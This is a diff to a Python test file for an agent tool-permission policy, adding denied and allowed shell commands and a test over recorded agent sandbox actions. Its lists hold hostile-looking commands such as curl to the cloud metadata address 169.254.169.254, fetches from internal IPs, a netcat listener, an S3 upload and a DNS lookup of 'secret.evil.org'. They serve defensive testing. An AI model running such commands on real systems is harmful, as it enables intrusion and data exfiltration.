@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from pathlib import Path
 from time import process_time
 from typing import Any
 
@@ -38,6 +39,8 @@ DENIED = [
     "echo http://169.254.169.254/ | xargs curl",
     "curl -K - <<< url=http://10.0.0.1/",
     "git clone http://10.0.0.1/x.git",
+    "redis-cli -h 10.0.0.5 ping",
+    "http POST 10.0.0.5/x a=b",
     "pip install --index-url http://10.0.0.1/simple x",
 ]
 FREE = [
@@ -50,10 +53,16 @@ FREE = [
     "echo http://169.254.169.254/",
     "grep -r http://10.0.0.1 src",
     "curl --version",
+    "http :8000/x",
+    "http GET example.com q==1",
+    "nc -lvp 1234",
+    "aws s3 cp x s3://bucket/x",
     "ping -c 1 example.com",
     "npm test",
     "ssh -i key bob@example.com ls",
 ]
+
+CORPUS = Path("/work/shared/corpora/agent_bash_actions.jsonl")
 
 
 def is_allowed(policy: Policy, tool: str, args: Any) -> bool:
@@ -103,6 +112,8 @@ def test_the_lists() -> None:
     }.items():
         assert is_allowed(policy, "WebFetch", {"url": url}) == allowed, url
     assert not is_allowed(policy, "Bash", {"command": "curl $URL"})
+    assert not is_allowed(policy, "Bash", {"command": "aws s3 cp x s3://bucket/x"})
+    assert is_allowed(policy, "Bash", {"command": "curl https://example.com/$ID"})
     assert not is_allowed(policy, "Bash", {"command": 'curl "$(cat url)"'})
     assert not is_allowed(policy, "Bash", {"command": "dig secret.evil.org"})
     assert is_allowed(policy, "Bash", {"command": "curl -i -d 'evil.org' https://example.com/x"})
@@ -210,6 +221,15 @@ def test_hostile_addresses_take_bounded_time(url: str) -> None:
     began = process_time()
     is_allowed(made("web_request"), "WebFetch", {"url": url})
     assert process_time() - began < 5
+
+
+@pytest.mark.skipif(not CORPUS.exists(), reason="recorded data are not here")
+def test_recorded_agents() -> None:
+    """Nothing that an agent did in its sandbox is taken for what it is not."""
+    asked = [command for line in CORPUS.read_text().splitlines() for command in json.loads(line)["actions"]]
+    assert len(asked) == 711
+    policy = made("web_request")
+    assert [command for command in asked if not is_allowed(policy, "Bash", {"command": command})] == []
 
 
 @pytest.mark.parametrize("config", [{}, {"allow": ["example.com"]}])
